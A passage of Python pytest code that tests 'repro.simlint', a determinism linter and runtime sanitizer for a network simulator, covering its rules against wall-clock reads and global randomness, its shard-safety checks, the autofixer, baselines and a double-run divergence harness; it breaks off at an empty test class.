        sim.run()
        assert 60 <= len(received) <= 140  # ~100 expected
        assert channel.packets_lost + channel.packets_carried == 200

    def test_invalid_loss_rate_rejected(self, sim):
        with pytest.raises(ValueError):
            PointToPointChannel(sim, loss_rate=1.5)

    def test_data_rate_must_be_positive(self, sim):
        with pytest.raises(ValueError):
            PointToPointDevice(sim, 0)
