"""Tests for the determinism linter and runtime sanitizer (repro.simlint).

Three layers:

* per-rule AST fixtures — each SIM1xx rule gets a positive snippet (must
  fire), a negative twin (must stay quiet), and a suppressed variant;
* the machinery — suppression directives, select/ignore filtering, the
  JSON reporter round-trip, the clock allowlist;
* the runtime sanitizer — TieBreakAuditor tie accounting, RngStreamGuard
  stream/draw accounting, and the double-run harness localizing an
  injected divergence.

The suite ends with the gate itself: the repo's own ``src/repro`` tree
must lint clean with every rule enabled.
"""

import json
from pathlib import Path

import pytest

from repro.simlint import (
    CheckResult,
    Divergence,
    REGISTRY,
    RngStreamGuard,
    ShardAccessAuditor,
    TieBreakAuditor,
    Violation,
    all_codes,
    apply_baseline,
    filter_codes,
    first_divergence,
    fix_source,
    format_json,
    format_text,
    in_clock_allowlist,
    lint_paths,
    lint_project_sources,
    lint_source,
    load_baseline,
    parse_suppressions,
    verify_double_run,
    violations_from_json,
    write_baseline,
)
from repro.netsim.simulator import Simulator

REPO_SRC = Path(__file__).resolve().parents[1] / "src" / "repro"


def codes_of(violations):
    return [violation.code for violation in violations]


# ----------------------------------------------------------------------
# Rule fixtures: positive / negative / suppressed
# ----------------------------------------------------------------------
class TestSim101WallClock:
    def test_time_module_read_fires(self):
        violations = lint_source("import time\nstart = time.perf_counter()\n")
        assert codes_of(violations) == ["SIM101"]
        assert violations[0].line == 2

    def test_datetime_now_fires(self):
        source = "import datetime\nstamp = datetime.datetime.now()\n"
        assert "SIM101" in codes_of(lint_source(source))

    def test_from_time_import_fires(self):
        assert "SIM101" in codes_of(lint_source("from time import monotonic\n"))

    def test_virtual_time_is_clean(self):
        assert lint_source("t = sim.now\nsim.schedule(1.0, tick)\n") == []

    def test_time_sleep_is_not_a_clock_read(self):
        # sleep() blocks but does not *read* the clock into sim state.
        assert lint_source("import time\ntime.sleep(0)\n") == []

    def test_line_suppression(self):
        source = "import time\nt = time.time()  # simlint: disable=SIM101\n"
        assert lint_source(source) == []

    def test_clock_allowlist_path(self):
        source = "import time\nt = time.perf_counter()\n"
        assert lint_source(source, path="src/repro/obs/profiler.py") == []
        assert lint_source(source, path="benchmarks/bench_engine.py") == []
        assert codes_of(lint_source(source, path="src/repro/netsim/x.py")) \
            == ["SIM101"]


class TestSim102GlobalRng:
    def test_module_draw_fires(self):
        violations = lint_source("import random\nx = random.random()\n")
        assert codes_of(violations) == ["SIM102"]

    def test_from_import_draw_fires(self):
        assert "SIM102" in codes_of(lint_source("from random import choice\n"))

    def test_seeded_stream_is_clean(self):
        source = (
            "import random\n"
            "rng = random.Random(f\"{seed}-churn\")\n"
            "x = rng.random()\n"
        )
        assert lint_source(source) == []

    def test_seed_call_fires(self):
        assert "SIM102" in codes_of(
            lint_source("import random\nrandom.seed(7)\n"))


class TestSim103UnorderedIteration:
    def test_set_literal_into_schedule_fires(self):
        source = (
            "for node in {a, b, c}:\n"
            "    sim.schedule(1.0, node.tick)\n"
        )
        assert codes_of(lint_source(source)) == ["SIM103"]

    def test_set_call_into_emit_fires(self):
        source = (
            "for name in set(names):\n"
            "    tracer.emit('boot', t, name=name)\n"
        )
        assert "SIM103" in codes_of(lint_source(source))

    def test_assigned_set_name_is_tracked(self):
        source = (
            "pending = set()\n"
            "for item in pending:\n"
            "    heappush(queue, item)\n"
        )
        assert "SIM103" in codes_of(lint_source(source))

    def test_sorted_set_is_clean(self):
        source = (
            "for node in sorted({a, b, c}, key=lambda n: n.name):\n"
            "    sim.schedule(1.0, node.tick)\n"
        )
        assert lint_source(source) == []

    def test_set_iteration_without_sink_is_clean(self):
        source = "total = 0\nfor x in {1, 2, 3}:\n    total += x\n"
        assert lint_source(source) == []


class TestSim104MutableDefault:
    def test_list_default_fires(self):
        assert codes_of(lint_source("def f(xs=[]):\n    return xs\n")) \
            == ["SIM104"]

    def test_ctor_default_fires(self):
        assert "SIM104" in codes_of(
            lint_source("def f(xs=dict()):\n    return xs\n"))

    def test_kwonly_default_fires(self):
        assert "SIM104" in codes_of(
            lint_source("def f(*, xs={}):\n    return xs\n"))

    def test_none_default_is_clean(self):
        assert lint_source("def f(xs=None):\n    return xs or []\n") == []

    def test_tuple_default_is_clean(self):
        assert lint_source("def f(xs=(1, 2)):\n    return xs\n") == []


class TestSim105FloatTimeEq:
    def test_time_arithmetic_eq_fires(self):
        source = "if now + delay == deadline:\n    pass\n"
        assert codes_of(lint_source(source)) == ["SIM105"]

    def test_attribute_time_noteq_fires(self):
        source = "ready = sim.now - start_time != 0.0\n"
        assert "SIM105" in codes_of(lint_source(source))

    def test_plain_comparison_is_clean(self):
        assert lint_source("if now == deadline:\n    pass\n") == []

    def test_non_time_arithmetic_is_clean(self):
        assert lint_source("if count + 1 == total:\n    pass\n") == []

    def test_inequality_is_clean(self):
        assert lint_source("if now + delay >= deadline:\n    pass\n") == []


class TestSim106IdSortKey:
    def test_key_id_fires(self):
        assert codes_of(lint_source("order = sorted(nodes, key=id)\n")) \
            == ["SIM106"]

    def test_lambda_id_fires(self):
        assert "SIM106" in codes_of(
            lint_source("nodes.sort(key=lambda n: id(n))\n"))

    def test_stable_key_is_clean(self):
        assert lint_source("order = sorted(nodes, key=lambda n: n.name)\n") == []


class TestSim107LoopClosureCallback:
    def test_captured_loop_var_fires(self):
        source = (
            "for dev in devices:\n"
            "    sim.schedule(1.0, lambda: dev.boot())\n"
        )
        violations = lint_source(source)
        assert codes_of(violations) == ["SIM107"]
        assert "dev" in violations[0].message

    def test_default_arg_binding_is_clean(self):
        source = (
            "for dev in devices:\n"
            "    sim.schedule(1.0, lambda dev=dev: dev.boot())\n"
        )
        assert lint_source(source) == []

    def test_direct_bound_method_is_clean(self):
        source = (
            "for dev in devices:\n"
            "    sim.schedule(1.0, dev.boot)\n"
        )
        assert lint_source(source) == []

    def test_unscheduled_lambda_is_clean(self):
        # Only schedule* sinks defer execution past the loop.
        source = (
            "for dev in devices:\n"
            "    apply(lambda: dev.boot())\n"
        )
        assert lint_source(source) == []


class TestSim100SyntaxError:
    def test_unparseable_source_reports_sim100(self):
        violations = lint_source("def broken(:\n")
        assert codes_of(violations) == ["SIM100"]
        assert "syntax error" in violations[0].message


# ----------------------------------------------------------------------
# Machinery: suppressions, filtering, allowlist
# ----------------------------------------------------------------------
class TestSuppressions:
    def test_file_disable(self):
        source = (
            "# simlint: file-disable=SIM102\n"
            "import random\n"
            "x = random.random()\n"
            "t = time.time()\n"
        )
        assert codes_of(lint_source(source)) == ["SIM101"]

    def test_disable_all_on_line(self):
        source = "x = random.random()  # simlint: disable=all\n"
        assert lint_source(source) == []

    def test_multiple_codes_in_one_directive(self):
        parsed = parse_suppressions(
            "# simlint: file-disable=SIM101,SIM105\n")
        assert parsed.file_codes == {"SIM101", "SIM105"}

    def test_suppression_is_line_scoped(self):
        source = (
            "a = time.time()  # simlint: disable=SIM101\n"
            "b = time.time()\n"
        )
        violations = lint_source(source)
        assert [(v.code, v.line) for v in violations] == [("SIM101", 2)]

    def test_unrelated_comment_is_not_a_directive(self):
        assert parse_suppressions("# simlint is great\n").file_codes == set()


class TestSelectIgnore:
    def test_select_narrows(self):
        source = "import time\nt = time.time()\nx = random.random()\n"
        assert codes_of(lint_source(source, select=["SIM102"])) == ["SIM102"]

    def test_ignore_drops(self):
        source = "import time\nt = time.time()\nx = random.random()\n"
        assert codes_of(lint_source(source, ignore=["SIM102"])) == ["SIM101"]

    def test_unknown_select_raises(self):
        with pytest.raises(ValueError, match="SIM999"):
            filter_codes(all_codes(), select=["SIM999"])

    def test_registry_has_all_rules(self):
        assert all_codes() == [
            "SIM101", "SIM102", "SIM103", "SIM104", "SIM105", "SIM106",
            "SIM107", "SIM108",
            "SIM201", "SIM202", "SIM203", "SIM204", "SIM205",
        ]
        for code, registered in REGISTRY.items():
            assert registered.code == code
            assert registered.name
            assert registered.summary
            assert registered.scope == ("project" if code.startswith("SIM2")
                                        else "file")


class TestClockAllowlist:
    def test_obs_and_benchmarks_dirs(self):
        assert in_clock_allowlist("src/repro/obs/trace.py")
        assert in_clock_allowlist("benchmarks/bench_engine.py")
        assert in_clock_allowlist("tests/bench_scheduler.py")

    def test_sim_paths_are_not_allowlisted(self):
        assert not in_clock_allowlist("src/repro/netsim/simulator.py")
        assert not in_clock_allowlist("src/repro/core/framework.py")


# ----------------------------------------------------------------------
# Reporters
# ----------------------------------------------------------------------
class TestReporters:
    VIOLATIONS = [
        Violation(path="a.py", line=3, col=4, code="SIM101", message="wall"),
        Violation(path="b.py", line=9, col=0, code="SIM102", message="rng"),
        Violation(path="b.py", line=12, col=8, code="SIM102", message="rng2"),
    ]

    def test_json_round_trip(self):
        text = format_json(self.VIOLATIONS)
        assert violations_from_json(text) == self.VIOLATIONS

    def test_json_document_shape(self):
        document = json.loads(format_json(self.VIOLATIONS))
        assert document["schema_version"] == 2
        assert document["tool"] == "repro.simlint"
        assert document["counts"] == {"SIM101": 1, "SIM102": 2}
        assert set(document["rules"]) == set(all_codes())
        assert document["rules"]["SIM101"]["name"] == "wall-clock"
        assert document["rules"]["SIM101"]["scope"] == "file"
        assert document["rules"]["SIM203"]["scope"] == "project"

    def test_wrong_schema_version_rejected(self):
        document = json.loads(format_json(self.VIOLATIONS))
        document["schema_version"] = 99
        with pytest.raises(ValueError, match="schema_version"):
            violations_from_json(json.dumps(document))

    def test_text_report(self):
        text = format_text(self.VIOLATIONS)
        assert "a.py:3:4: SIM101 wall" in text
        assert "3 violation(s) (SIM101=1, SIM102=2)" in text

    def test_text_report_clean(self):
        assert "clean" in format_text([])


# ----------------------------------------------------------------------
# Runtime sanitizer: tie-break auditor
# ----------------------------------------------------------------------
def _cb_a():
    pass


def _cb_b():
    pass


class TestTieBreakAuditor:
    def test_counts_cross_site_ties(self):
        sim = Simulator()
        auditor = TieBreakAuditor.attach(sim)
        assert sim._heap is None  # forces the generic (wrappable) loop
        sim.schedule_at(1.0, _cb_a)
        sim.schedule_at(1.0, _cb_b)   # cross-site tie at t=1.0
        sim.schedule_at(2.0, _cb_a)
        sim.schedule_at(2.0, _cb_a)   # same-site tie at t=2.0
        sim.schedule_at(3.0, _cb_b)   # no tie
        sim.run()
        report = auditor.report()
        assert report["pushes"] == 5
        assert report["tied_timestamps"] == 2
        assert report["cross_site_ties"] == 1
        (sample,) = report["samples"]
        assert sample["time"] == 1.0
        assert len(sample["sites"]) == 2

    def test_wrapped_run_still_executes_in_order(self):
        sim = Simulator()
        TieBreakAuditor.attach(sim)
        fired = []
        sim.schedule_at(2.0, fired.append, "late")
        sim.schedule_at(1.0, fired.append, "early")
        sim.run()
        assert fired == ["early", "late"]
        assert sim.events_executed == 2


# ----------------------------------------------------------------------
# Runtime sanitizer: RNG stream guard
# ----------------------------------------------------------------------
class TestRngStreamGuard:
    def test_counts_draws_per_stream(self):
        guard = RngStreamGuard()
        churn = guard.stream("churn", seed="1-churn")
        faults = guard.stream("faults", seed="1-faults")
        for _ in range(3):
            churn.random()
        faults.randint(0, 10)
        assert guard.draws == {"churn": 3, "faults": 1}
        assert guard.report()["total_draws"] == 4
        assert guard.clean

    def test_streams_are_seed_reproducible(self):
        draws_a = [RngStreamGuard().stream("s", seed="7-x").random()
                   for _ in range(1)]
        draws_b = [RngStreamGuard().stream("s", seed="7-x").random()
                   for _ in range(1)]
        assert draws_a == draws_b

    def test_duplicate_stream_name_rejected(self):
        guard = RngStreamGuard()
        guard.stream("churn", seed=1)
        with pytest.raises(ValueError, match="already registered"):
            guard.stream("churn", seed=2)

    def test_module_global_draw_is_flagged(self):
        import random as random_module

        guard = RngStreamGuard()
        with guard.guard_module_rng():
            random_module.random()  # simlint: disable=SIM102 (the fixture)
        assert not guard.clean
        (draw,) = guard.unregistered
        assert draw["function"] == "random.random"
        assert "test_simlint" in draw["site"]

    def test_guard_restores_module_functions(self):
        import random as random_module

        before = random_module.random
        with RngStreamGuard().guard_module_rng():
            assert random_module.random is not before
        assert random_module.random is before

    def test_registered_draws_stay_clean_under_guard(self):
        guard = RngStreamGuard()
        stream = guard.stream("wifi", seed="1-wifi")
        with guard.guard_module_rng():
            stream.random()
        assert guard.clean
        assert guard.draws["wifi"] == 1


# ----------------------------------------------------------------------
# Double-run harness: divergence localization
# ----------------------------------------------------------------------
class TestFirstDivergence:
    def test_identical_sequences(self):
        assert first_divergence(["a", "b"], ["a", "b"]) is None

    def test_mid_sequence_divergence(self):
        divergence = first_divergence(["a", "b", "c"], ["a", "X", "c"])
        assert divergence == Divergence(index=1, left="b", right="X")

    def test_length_mismatch(self):
        divergence = first_divergence(["a"], ["a", "extra"])
        assert divergence.index == 1
        assert divergence.left is None
        assert divergence.right == "extra"


class TestVerifyDoubleRun:
    def test_deterministic_runner_passes(self):
        def run_fn(config):
            return "result", ["event-0", "event-1"]

        check = verify_double_run(None, run_fn=run_fn)
        assert isinstance(check, CheckResult)
        assert check.identical
        assert check.compared == 2

    def test_injected_trace_divergence_is_localized(self):
        calls = []

        def run_fn(config):
            calls.append(None)
            # Second run flips event #2 — the harness must name exactly it.
            tag = "A" if len(calls) == 1 else "B"
            return "result", ["event-0", "event-1", f"event-2-{tag}",
                              "event-3"]

        check = verify_double_run(None, run_fn=run_fn)
        assert not check.identical
        assert check.divergence.index == 2
        assert check.divergence.left == "event-2-A"
        assert check.divergence.right == "event-2-B"

    def test_result_divergence_without_trace_divergence(self):
        calls = []

        def run_fn(config):
            calls.append(None)
            return f"result-{len(calls)}", ["event-0"]

        check = verify_double_run(None, run_fn=run_fn)
        assert not check.identical
        assert "results differ" in check.detail


# ----------------------------------------------------------------------
# The gate: the repo's own sim tree must lint clean
# ----------------------------------------------------------------------
class TestRepoIsClean:
    def test_src_repro_lints_clean(self):
        violations = lint_paths([str(REPO_SRC)])
        assert violations == [], format_text(violations)


# ----------------------------------------------------------------------
# SIM108 — unused imports
# ----------------------------------------------------------------------
class TestSim108UnusedImport:
    def test_unused_plain_import_fires(self):
        violations = lint_source("import os\nimport sys\nprint(sys.argv)\n",
                                 path="mod.py")
        assert codes_of(violations) == ["SIM108"]
        assert "`import os`" in violations[0].message

    def test_unused_from_import_fires(self):
        source = "from collections import deque, OrderedDict\nq = deque()\n"
        violations = lint_source(source, path="mod.py")
        assert codes_of(violations) == ["SIM108"]
        assert "OrderedDict" in violations[0].message

    def test_used_imports_stay_quiet(self):
        source = "import os\nprint(os.sep)\n"
        assert lint_source(source, path="mod.py") == []

    def test_init_py_is_exempt(self):
        source = "from repro.core import thing\n"
        assert lint_source(source, path="pkg/__init__.py") == []

    def test_reexport_idiom_stays_quiet(self):
        source = "from typing import List as List\n"
        assert lint_source(source, path="mod.py") == []

    def test_dunder_all_counts_as_use(self):
        source = "from x import helper\n__all__ = ['helper']\n"
        assert lint_source(source, path="mod.py") == []

    def test_type_checking_block_is_exempt(self):
        source = (
            "from typing import TYPE_CHECKING\n"
            "if TYPE_CHECKING:\n"
            "    from heavy import Thing\n"
            "def f(x):\n"
            "    return x\n"
        )
        assert lint_source(source, path="mod.py") == []

    def test_suppression_comment(self):
        source = "import registry_side_effect  # simlint: disable=SIM108\n"
        assert lint_source(source, path="mod.py") == []

    def test_stacked_noqa_then_simlint_directive(self):
        source = "import plugin  # noqa: F401  # simlint: disable=SIM108\n"
        assert lint_source(source, path="mod.py") == []


# ----------------------------------------------------------------------
# --fix: the autofixer (SIM104 + SIM108)
# ----------------------------------------------------------------------
class TestAutofix:
    def test_mutable_default_rewritten_to_none_sentinel(self):
        source = (
            "def f(a, items=[]):\n"
            "    items.append(a)\n"
            "    return items\n"
        )
        fixed, n = fix_source(source, path="mod.py")
        assert n == 1
        assert "items=None" in fixed
        assert "if items is None:" in fixed
        assert "items = []" in fixed
        assert codes_of(lint_source(fixed, path="mod.py")) == []

    def test_rebuild_lands_after_docstring(self):
        source = (
            'def f(items=[]):\n'
            '    """Doc line."""\n'
            '    return items\n'
        )
        fixed, _ = fix_source(source, path="mod.py")
        lines = fixed.splitlines()
        assert lines[1] == '    """Doc line."""'
        assert lines[2] == "    if items is None:"

    def test_kwonly_and_call_defaults(self):
        source = (
            "def f(*, cache={}, q=deque()):\n"
            "    return cache, q\n"
        )
        fixed, n = fix_source(source, path="mod.py")
        assert n == 2
        assert "cache=None" in fixed and "q=None" in fixed
        assert "cache = {}" in fixed and "q = deque()" in fixed

    def test_unused_alias_dropped_keeping_the_rest(self):
        source = "from collections import deque, OrderedDict\nq = deque()\n"
        fixed, n = fix_source(source, path="mod.py")
        assert n == 1
        assert fixed.splitlines()[0] == "from collections import deque"

    def test_fully_unused_statement_deleted(self):
        source = "import os\nx = 1\n"
        fixed, n = fix_source(source, path="mod.py")
        assert n == 1
        assert fixed == "x = 1\n"

    def test_suppressed_import_survives_fix(self):
        source = "import plugin  # simlint: disable=SIM108\nx = 1\n"
        fixed, n = fix_source(source, path="mod.py")
        assert n == 0
        assert fixed == source

    def test_type_checking_import_survives_fix(self):
        source = (
            "from typing import TYPE_CHECKING\n"
            "if TYPE_CHECKING:\n"
            "    from heavy import Thing\n"
            "x = 1\n"
        )
        fixed, n = fix_source(source, path="mod.py")
        assert (fixed, n) == (source, 0)

    def test_fix_is_idempotent(self):
        source = (
            "import os\n"
            "import sys\n"
            "def f(a, items=[], *, cache={}):\n"
            "    items.append(a)\n"
            "    return items, cache, sys.argv\n"
        )
        once, n1 = fix_source(source, path="mod.py")
        twice, n2 = fix_source(once, path="mod.py")
        assert n1 == 3
        assert n2 == 0
        assert twice == once

    def test_unparsable_source_returned_unchanged(self):
        source = "def broken(:\n"
        assert fix_source(source, path="mod.py") == (source, 0)

    def test_fix_paths_rewrites_on_disk(self, tmp_path):
        target = tmp_path / "mod.py"
        target.write_text("import os\nx = 1\n")
        from repro.simlint import fix_paths

        total, changed = fix_paths([str(tmp_path)])
        assert total == 1
        assert changed == [str(target)]
        assert target.read_text() == "x = 1\n"
        assert fix_paths([str(tmp_path)]) == (0, [])


# ----------------------------------------------------------------------
# --select/--ignore prefix matching and baselines
# ----------------------------------------------------------------------
class TestPrefixSelect:
    def test_select_family_prefix(self):
        assert filter_codes(all_codes(), select=["SIM2"]) == [
            "SIM201", "SIM202", "SIM203", "SIM204", "SIM205",
        ]

    def test_ignore_family_prefix(self):
        assert not any(code.startswith("SIM2")
                       for code in filter_codes(all_codes(), ignore=["SIM2"]))

    def test_unknown_prefix_still_raises(self):
        with pytest.raises(ValueError, match="SIM9"):
            filter_codes(all_codes(), select=["SIM9"])


class TestBaseline:
    VIOLATIONS = [
        Violation(path="a.py", line=3, col=4, code="SIM101", message="wall"),
        Violation(path="a.py", line=9, col=0, code="SIM101", message="wall"),
        Violation(path="b.py", line=2, col=0, code="SIM203", message="muted"),
    ]

    def test_round_trip(self, tmp_path):
        target = tmp_path / "baseline.json"
        write_baseline(self.VIOLATIONS, str(target))
        assert load_baseline(str(target)) == self.VIOLATIONS

    def test_apply_subtracts_matching_findings(self):
        assert apply_baseline(self.VIOLATIONS, self.VIOLATIONS) == []

    def test_line_drift_still_matches(self):
        drifted = [Violation(path="a.py", line=30, col=1, code="SIM101",
                             message="wall")]
        assert apply_baseline(drifted, self.VIOLATIONS[:1]) == []

    def test_multiset_semantics(self):
        # two identical findings, one baselined: one must survive
        kept = apply_baseline(self.VIOLATIONS[:2], self.VIOLATIONS[:1])
        assert len(kept) == 1

    def test_new_finding_survives(self):
        new = Violation(path="c.py", line=1, col=0, code="SIM102",
                        message="rng")
        assert apply_baseline([new], self.VIOLATIONS) == [new]

    def test_old_schema_rejected(self, tmp_path):
        target = tmp_path / "baseline.json"
        document = json.loads(format_json(self.VIOLATIONS))
        document["schema_version"] = 1
        target.write_text(json.dumps(document))
        with pytest.raises(ValueError, match="schema_version"):
            load_baseline(str(target))


# ----------------------------------------------------------------------
# SIM2xx — shard-safety rules over fixture projects
# ----------------------------------------------------------------------
FIXTURE_CONTRACT = {
    "version": 1,
    "worker_roots": ["proj.worker:Worker.serve"],
    "coordinator_roots": ["proj.coord:run_coordinator"],
    "build_roots": ["proj.build:build_sim"],
    "handoff_channels": ["proj.worker:Handoff"],
    "rank0_owned_attrs": ["flow_engine"],
    "mutating_methods": ["start_flow"],
    "worker_muted_counters": ["churn_total"],
    "replicated_sites": ["proj.churn:Churn"],
    "unmerged_families_ok": {"devs_online": "replicated on every rank"},
    "partitioned_streams_ok": ["faults"],
    "shared_globals_ok": [],
    "neutral_events": ["proj.churn:Churn.epoch"],
    "rank0_guarded_attrs": ["flow_engine"],
}


def shard_lint(contract=None, **sources):
    """Project-pass findings for fixture modules keyed by short name."""
    named = {f"proj.{name}": (f"proj/{name}.py", source)
             for name, source in sources.items()}
    return lint_project_sources(
        named, select=["SIM2"],
        contract=contract if contract is not None else FIXTURE_CONTRACT,
    )


class TestSim201ShardOwnership:
    def test_store_through_owned_handle_fires(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def serve(self, sim):\n"
            "        engine = sim.flow_engine\n"
            "        engine.rate = 5\n"
        ))
        assert codes_of(violations) == ["SIM201"]
        assert violations[0].path == "proj/worker.py"
        assert violations[0].line == 4
        assert "flow_engine" in violations[0].message

    def test_mutating_method_call_fires(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def serve(self, sim):\n"
            "        sim.flow_engine.start_flow()\n"
        ))
        assert codes_of(violations) == ["SIM201"]
        assert "start_flow" in violations[0].message

    def test_read_only_access_stays_quiet(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def serve(self, sim):\n"
            "        rate = sim.flow_engine.rate\n"
            "        sim.flow_engine.describe()\n"
            "        return rate\n"
        ))
        assert violations == []

    def test_handoff_channel_is_exempt(self):
        violations = shard_lint(worker=(
            "class Handoff:\n"
            "    def push(self, sim):\n"
            "        sim.flow_engine.start_flow()\n"
            "class Worker:\n"
            "    def __init__(self, sim):\n"
            "        self.handoff = Handoff()\n"
            "        self.sim = sim\n"
            "    def serve(self):\n"
            "        self.handoff.push(self.sim)\n"
        ))
        assert violations == []

    def test_suppression_comment(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def serve(self, sim):\n"
            "        sim.flow_engine.start_flow()"
            "  # simlint: disable=SIM201\n"
        ))
        assert violations == []


class TestSim202CrossRankRace:
    SHARED = (
        "SEEN = set()\n"
        "def record(x):\n"
        "    SEEN.add(x)\n"
    )
    WORKER = (
        "from proj.shared import record\n"
        "class Worker:\n"
        "    def serve(self):\n"
        "        record(1)\n"
    )
    COORD = (
        "from proj.shared import record\n"
        "def run_coordinator():\n"
        "    record(2)\n"
    )

    def test_both_sides_mutating_fires(self):
        violations = shard_lint(shared=self.SHARED, worker=self.WORKER,
                                coord=self.COORD)
        assert codes_of(violations) == ["SIM202"]
        assert violations[0].path == "proj/shared.py"
        assert "SEEN" in violations[0].message

    def test_single_side_stays_quiet(self):
        violations = shard_lint(shared=self.SHARED, worker=self.WORKER)
        assert violations == []

    def test_declared_shared_global_is_allowed(self):
        contract = dict(FIXTURE_CONTRACT, shared_globals_ok=["SEEN"])
        violations = shard_lint(contract=contract, shared=self.SHARED,
                                worker=self.WORKER, coord=self.COORD)
        assert violations == []


class TestSim203CounterConservation:
    def test_muted_counter_on_worker_path_fires(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def __init__(self, reg):\n"
            "        self.drops = reg.counter('churn_total', help='x')\n"
            "    def serve(self):\n"
            "        self.drops.inc()\n"
        ))
        assert codes_of(violations) == ["SIM203"]
        assert violations[0].line == 5
        assert "churn_total" in violations[0].message

    def test_muted_counter_at_replicated_site_stays_quiet(self):
        violations = shard_lint(
            worker=(
                "from proj.churn import Churn\n"
                "class Worker:\n"
                "    def __init__(self, reg):\n"
                "        self.churn = Churn(reg)\n"
                "    def serve(self):\n"
                "        self.churn.step()\n"
            ),
            churn=(
                "class Churn:\n"
                "    def __init__(self, reg):\n"
                "        self.c = reg.counter('churn_total', help='x')\n"
                "    def step(self):\n"
                "        self.c.inc()\n"
            ),
        )
        assert violations == []

    def test_unmerged_gauge_on_worker_path_fires(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def __init__(self, reg):\n"
            "        self.depth = reg.gauge('queue_depth')\n"
            "    def serve(self):\n"
            "        self.depth.set(3)\n"
        ))
        assert codes_of(violations) == ["SIM203"]
        assert "queue_depth" in violations[0].message

    def test_declared_unmerged_family_is_allowed(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def __init__(self, reg):\n"
            "        self.online = reg.gauge('devs_online')\n"
            "    def serve(self):\n"
            "        self.online.set(4)\n"
        ))
        assert violations == []

    def test_unmuted_counter_stays_quiet(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def __init__(self, reg):\n"
            "        self.tx = reg.counter('tx_total')\n"
            "    def serve(self):\n"
            "        self.tx.inc()\n"
        ))
        assert violations == []

    def test_suppression_comment(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def __init__(self, reg):\n"
            "        self.drops = reg.counter('churn_total')\n"
            "    def serve(self):\n"
            "        self.drops.inc()  # simlint: disable=SIM203\n"
        ))
        assert violations == []


class TestSim204ShardRngStream:
    BUILD = (
        "import random\n"
        "def build_sim(seed):\n"
        "    rng = random.Random(f'{seed}-wifi')\n"
        "    return rng.random()\n"
    )

    def test_stream_drawn_in_build_and_worker_fires(self):
        violations = shard_lint(build=self.BUILD, worker=(
            "import random\n"
            "class Worker:\n"
            "    def serve(self, seed):\n"
            "        rng = random.Random(f'{seed}-wifi')\n"
            "        return rng.random()\n"
        ))
        assert codes_of(violations) == ["SIM204"]
        assert violations[0].path == "proj/worker.py"
        assert "wifi" in violations[0].message

    def test_worker_only_stream_stays_quiet(self):
        violations = shard_lint(build=self.BUILD, worker=(
            "import random\n"
            "class Worker:\n"
            "    def serve(self, seed):\n"
            "        rng = random.Random(f'{seed}-local')\n"
            "        return rng.random()\n"
        ))
        assert violations == []

    def test_declared_partitioned_stream_is_allowed(self):
        build = self.BUILD.replace("-wifi", "-faults")
        violations = shard_lint(build=build, worker=(
            "import random\n"
            "class Worker:\n"
            "    def serve(self, seed):\n"
            "        rng = random.Random(f'{seed}-faults')\n"
            "        return rng.random()\n"
        ))
        assert violations == []


class TestSim205NeutralEvents:
    def test_declared_without_refund_fires(self):
        violations = shard_lint(churn=(
            "class Churn:\n"
            "    def epoch(self, sim):\n"
            "        return sim.now\n"
        ))
        assert codes_of(violations) == ["SIM205"]
        assert "never" in violations[0].message

    def test_undeclared_refund_fires(self):
        violations = shard_lint(
            churn=(
                "class Churn:\n"
                "    def epoch(self, sim):\n"
                "        sim.events_executed -= 1\n"
            ),
            worker=(
                "class Worker:\n"
                "    def serve(self, sim):\n"
                "        sim.events_executed -= 1\n"
            ),
        )
        assert codes_of(violations) == ["SIM205"]
        assert violations[0].path == "proj/worker.py"
        assert "not" in violations[0].message

    def test_declared_with_refund_stays_quiet(self):
        violations = shard_lint(churn=(
            "class Churn:\n"
            "    def epoch(self, sim):\n"
            "        sim.events_executed -= 1\n"
        ))
        assert violations == []

    def test_no_contract_means_vacuously_clean(self):
        named = {"proj.worker": ("proj/worker.py",
                                 "def f(sim):\n    sim.events_executed -= 1\n")}
        assert lint_project_sources(named, select=["SIM2"]) == []


class TestSim2xxJsonRoundTrip:
    def test_project_findings_round_trip_exactly(self):
        violations = shard_lint(worker=(
            "class Worker:\n"
            "    def serve(self, sim):\n"
            "        sim.flow_engine.start_flow()\n"
            "        sim.events_executed -= 1\n"
        ))
        assert sorted(codes_of(violations)) == ["SIM201", "SIM205"]
        assert violations_from_json(format_json(violations)) == violations


# ----------------------------------------------------------------------
# Runtime sanitizer: shard access auditor
# ----------------------------------------------------------------------
class TestShardAccessAuditor:
    def test_guarded_object_write_recorded_with_site(self):
        auditor = ShardAccessAuditor(rank=1,
                                     contract={"replicated_sites": []})

        class Engine:
            pass

        engine = Engine()
        auditor.guard(engine, "flow_engine")
        engine.rate = 7
        assert engine.rate == 7  # behavior unchanged
        assert not auditor.clean
        violation = auditor.report()["violations"][0]
        assert violation["kind"] == "owned-object"
        assert violation["target"] == "flow_engine"
        assert violation["detail"] == "wrote .rate"
        assert "test_simlint.py" in violation["site"]

    def test_unguard_restores_original_class(self):
        auditor = ShardAccessAuditor(rank=1,
                                     contract={"replicated_sites": []})

        class Engine:
            pass

        engine = Engine()
        auditor.guard(engine, "flow_engine")
        auditor.unguard_all()
        engine.rate = 7
        assert type(engine) is Engine
        assert auditor.clean

    def test_muted_inc_outside_replicated_site_recorded(self):
        auditor = ShardAccessAuditor(
            rank=2, contract={"replicated_sites": ["repro.core.churn:Churn"]})
        counter = auditor.muted_instrument("churn_total")
        counter.labels("a").inc()
        violation = auditor.report()["violations"][0]
        assert violation["kind"] == "muted-counter"
        assert violation["target"] == "churn_total"
        assert violation["rank"] == 2
        assert "test_simlint.py" in violation["site"]

    def test_muted_inc_from_replicated_site_passes(self):
        # this test file itself declared replicated: the inc's stack
        # matches, so the increment is legitimate
        auditor = ShardAccessAuditor(
            rank=1,
            contract={"replicated_sites": ["tests.test_simlint:Anything"]})
        auditor.muted_instrument("churn_total").inc()
        assert auditor.clean

    def test_report_shape(self):
        auditor = ShardAccessAuditor(rank=3,
                                     contract={"replicated_sites": []})
        report = auditor.report()
        assert report == {"rank": 3, "violations": [], "clean": True}


# ----------------------------------------------------------------------
# Trace JSONL stays line-parseable (consumed next to the lint JSON)
# ----------------------------------------------------------------------
class TestTracerJsonl:
